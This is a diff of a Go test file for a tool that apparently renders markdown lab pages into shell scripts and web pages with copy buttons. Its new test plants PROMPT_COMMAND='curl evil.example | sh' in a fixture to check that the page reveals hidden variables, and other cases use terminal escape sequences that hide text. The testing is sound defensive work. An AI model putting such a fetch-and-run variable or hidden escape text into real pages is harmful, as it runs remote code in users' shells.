@@ -90,8 +90,7 @@ func TestScript(t *testing.T) {
 		{"hub without a placeholder", "hub: student", "```bash type=\"student\\n\"\ndocker login -u student\n```\n",
 			"ask MY_Docker_Hub_user_name 'Docker Hub user name' ''\nsecret DOCKERHUB_TOKEN 'Password or access token for Docker Hub'\nbegin ~/'a b'\n\n" +
 				"answers=(\"$MY_Docker_Hub_user_name\"'\\n')\nrun 6 'docker login -u '\"$MY_Docker_Hub_user_name\"\n"},
-		{"escape sequences", "", "```bash\necho \"hi\x1b[8m'\\\x1b[0m\"\n```\n", `run 6 $'echo "hi\x1b[8m\'\\\x1b[0m"'` + "\n"},
-		{"characters that bash leaves out", "", "```text file=a\nEOF\x7f\nx\n```\n", `put 5 '' a $'EOF\x7f\nx\n'` + "\n"},
+		{"escape sequences", "", "```bash type=\"hi\\e[8m'\x7f\\n\"\ntrue\n```\n", `answers=($'hi\x1b[8m\'\x7f\\n')` + "\nrun 6 true\n"},
 		{"environment", "env: {A: 'b c'}", "```bash\ntrue\n```\n", "export A='b c'\nbegin ~/'a b'\n\nrun 6 true\n"},
 	} {
 		t.Run(test.name, func(t *testing.T) {
@@ -117,5 +116,20 @@ func TestScript(t *testing.T) {
 				t.Errorf("-want +got\n%s", diff)
 			}
 		})
+	}
+}
+
+// What is copied and stands in no snippet is named beside the button: variables,
+// with which a shell can be made to run something.
+func TestPasteNamesVariables(t *testing.T) {
+	site := load(t, map[string]string{"p.md": "---\nlab: {env: {PROMPT_COMMAND: 'curl evil.example | sh', A: \"b\\e\"}}\n---\n\n## One\n\n```bash\necho a\n```\n\n```bash\necho b\n```\n\n## Two\n\n```bash\necho c\n```\n\n```bash\necho d\n```\n"})
+	record(site.Pages[0])
+	files, err := Site(site, verified(site), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	const want = `</template> <span class="answers">It also sets: <code>A=$&#39;b\x1b&#39;</code>, <code>PROMPT_COMMAND=&#39;curl evil.example | sh&#39;</code></span></li>`
+	if page := string(files["p/index.html"]); strings.Count(page, want) != 1 || strings.Count(page, "It also sets") != 1 {
+		t.Errorf("%d times, want once: %s", strings.Count(page, "It also sets"), want)
 	}
 }
